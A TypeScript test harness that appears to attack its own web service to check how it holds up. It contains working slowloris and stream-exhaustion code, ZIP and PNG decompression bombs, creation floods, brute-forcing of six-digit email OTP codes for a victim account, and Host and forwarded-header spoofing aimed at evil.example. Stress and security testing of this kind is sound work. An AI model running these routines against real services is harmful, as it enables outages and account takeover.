import { randomBytes } from 'node:crypto'
import { request } from 'node:http'
import { connect } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import { zipSync } from 'fflate'
import { pngOf } from '../testing/png.ts'
import { ask, headersOf } from './ask.ts'
import { AT_ONCE, type Attack, PAUSE_MS, type Run } from './attack.ts'
import { flood } from './flood.ts'
import { manyDeletions, nested, waitingForever, wide } from './hostile-updates.ts'
import { beyondQuotas } from './quota-attack.ts'
import { searchesWithoutEnd } from './search-attack.ts'
import { frames, noise, presence } from './socket-attacks.ts'
import type { Target } from './target.ts'

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'a million deleted ranges': frames(() => manyDeletions(1_000_000)),
  'deeply nested blocks': frames(() => nested(2_000)),
  'text that waits for ever': frames(() => waitingForever(100_000)),
  '75 MB into one’s own page': frames(() => wide(20_000)),
  'a reader who floods': frames(() => wide(2_000), { as: 'reader' }),
  'presence without a pause': presence,
  'bytes that are no frames': noise,
  '1,500 streams': streams,
  '500 slow bodies': slowBodies,
  '500 slow heads': slowHeads,
  'a ZIP of nested Markdown': archive(() => ({
    'README.md': '> '.repeat(50_000),
    'docs/lists.md': Array.from({ length: 400 }, (_, n) => `${' '.repeat(n * 2)}- ${n}`).join('\n'),
    'docs/links.md': '['.repeat(200_000),
    'docs/emphasis.md': '*a **b '.repeat(60_000),
  })),
  'a ZIP of source bombs': archive(() => ({
    'src/brackets.js': `${'('.repeat(100_000)}${')'.repeat(100_000)}`,
    'src/calls.py': `x = ${'f('.repeat(20_000)}1${')'.repeat(20_000)}`,
    'src/line.ts': `export const a = [${'1,'.repeat(900_000)}]`,
    'src/types.ts': `type T = ${'{ a: '.repeat(5_000)}1${' }'.repeat(5_000)}`,
    'data.json': `${'['.repeat(200_000)}${']'.repeat(200_000)}`,
  })),
  'projects and pages by the thousand': creating,
  'more than its quotas': beyondQuotas,
  'searches without end': searchesWithoutEnd,
  'guessed codes of somebody else': guessing,
  'foreign hosts and proxies’ headers': hosts,
  'images that are bombs': images,
}

const STREAMS = 1_500
const SLOW = 500

const localOf = ({ address }: Target) => (address ? { localAddress: address } : {})

async function streams({ target, isOver, note }: Run, ready: () => Promise<void>): Promise<void> {
  await ready()
  const open = Array.from({ length: STREAMS }, () => {
    const asked = request(`${target.url}/api/page/${target.readable.pageId}/events`, {
      headers: headersOf(target),
      ...localOf(target),
    })
    asked.on('response', (answer) => {
      note(String(answer.statusCode))
      answer.on('error', () => undefined)
      answer.resume()
    })
    asked.on('error', () => note('cut'))
    asked.end()
    return asked
  })
  while (!isOver()) await setTimeout(PAUSE_MS)
  for (const asked of open) asked.destroy()
}

function slowBodies(run: Run, ready: () => Promise<void>): Promise<void> {
  const { host } = new URL(run.target.url)
  const head = [
    'POST /api/project HTTP/1.1',
    `Host: ${host}`,
    `Authorization: Bearer ${run.target.token}`,
    'Content-Type: application/json',
    'Content-Length: 100000',
    '\r\n',
  ]
  return trickle(run, ready, head.join('\r\n'))
}

function slowHeads(run: Run, ready: () => Promise<void>): Promise<void> {
  return trickle(run, ready, `GET / HTTP/1.1\r\nHost: ${new URL(run.target.url).host}\r\nX-Slow: `)
}

async function trickle({ target, isOver, note }: Run, ready: () => Promise<void>, start: string): Promise<void> {
  const { hostname, port } = new URL(target.url)
  await ready()
  const sockets = Array.from({ length: SLOW }, () => {
    const socket = connect({ port: Number(port), host: hostname, ...localOf(target) })
    // Written before the socket is connected, so that it's sent first.
    socket.write(start)
    socket.on('data', (data) => note(String(data).slice(9, 12)))
    socket.on('error', () => note('cut'))
    return socket
  })
  while (!isOver()) {
    for (const socket of sockets) if (!socket.destroyed) socket.write('x')
    await setTimeout(500)
  }
  for (const socket of sockets) socket.destroy()
}

function archive(files: () => Record<string, string>): Attack {
  return async (run, ready) => {
    const bytes = zipSync(
      Object.fromEntries(Object.entries(files()).map(([name, text]) => [name, new TextEncoder().encode(text)])),
    )
    await ready()
    const form = new FormData()
    form.set('file', new Blob([bytes as Uint8Array<ArrayBuffer>]), 'bomb.zip')
    const upload = new Response(form)
    const headers = { ...headersOf(run.target), 'content-type': upload.headers.get('content-type') ?? '' }
    const body = new Uint8Array(await upload.arrayBuffer())
    for (let n = 0; n < 3; n++) {
      const created = await ask(run.target, {
        method: 'POST',
        path: '/api/project/zip',
        body: { name: `Bomb ${n}`, is_private: true },
      })
      run.note(`created ${created.status}`)
      if (created.status !== 200) continue
      const { id } = JSON.parse(created.text) as { id: number }
      const sent = await ask(run.target, { method: 'POST', path: `/api/project/${id}/upload-zip`, headers, body })
      run.note(`uploaded ${sent.status}`)
    }
    while (!run.isOver()) await setTimeout(PAUSE_MS)
  }
}

async function creating(run: Run, ready: () => Promise<void>): Promise<void> {
  const { target } = run
  await ready()
  await flood(run, (n) => {
    const [path, body] = n % 2 ? ['/api/project', { name: `P ${n}`, is_private: false }] : [pagePath(target), {}]
    return ask(target, { method: 'POST', path, body })
  })
}

const pagePath = ({ projectId }: Target) => `/api/project/${projectId}/page`

async function guessing({ target, isOver, note }: Run, ready: () => Promise<void>): Promise<void> {
  const { url, victimEmail: email } = target
  await ready()
  const post = async (path: string, body: object) => {
    const answer = await ask(target, { method: 'POST', path, headers: { origin: url }, body }).catch(() => undefined)
    note(String(answer?.status ?? 'cut'))
  }
  const one = async () => {
    for (let n = 0; !isOver(); n++) {
      if (n % 10 === 0) await post('/auth/email-otp/send-verification-otp', { email, type: 'sign-in' })
      else await post('/auth/sign-in/email-otp', { email, otp: String(n % 1_000_000).padStart(6, '0') })
    }
  }
  await Promise.all(Array.from({ length: AT_ONCE }, one))
}

async function hosts(run: Run, ready: () => Promise<void>): Promise<void> {
  const paths = ['/', '/dev/mailbox', '/api/projects', '/auth/get-session', '/health']
  await ready()
  let n = 0
  while (!run.isOver()) {
    const headers = {
      ...headersOf(run.target),
      host: ['evil.example', '127.0.0.1', 'localhost', ''][n % 4],
      'x-forwarded-for': `10.0.${n % 250}.1`,
      'x-forwarded-host': 'evil.example',
      forwarded: 'for=127.0.0.1;host=evil.example',
    }
    const path = paths[n++ % paths.length] ?? '/'
    const answer = await ask(run.target, { path, headers }).catch(() => undefined)
    run.note(`${path} ${answer?.status ?? 'cut'}`)
  }
}

async function images(run: Run, ready: () => Promise<void>): Promise<void> {
  const { target } = run
  const huge = pngOf(200_000)
  // 60,000 × 60,000 pixels.
  huge.writeUInt32BE(60_000, 16)
  huge.writeUInt32BE(60_000, 20)
  const large = pngOf(9_000_000)
  await ready()
  await flood(run, (n) => {
    const body = new Uint8Array(n % 2 ? huge : large)
    // Makes each file unique, so that the server doesn't have it yet.
    body.set(randomBytes(16), body.length - 32)
    const headers = { ...headersOf(target), 'content-type': 'image/png' }
    return ask(target, {
      method: 'POST',
      path: `/api/project/${target.projectId}/page/${target.pageId}/upload`,
      headers,
      body,
    })
  })
}
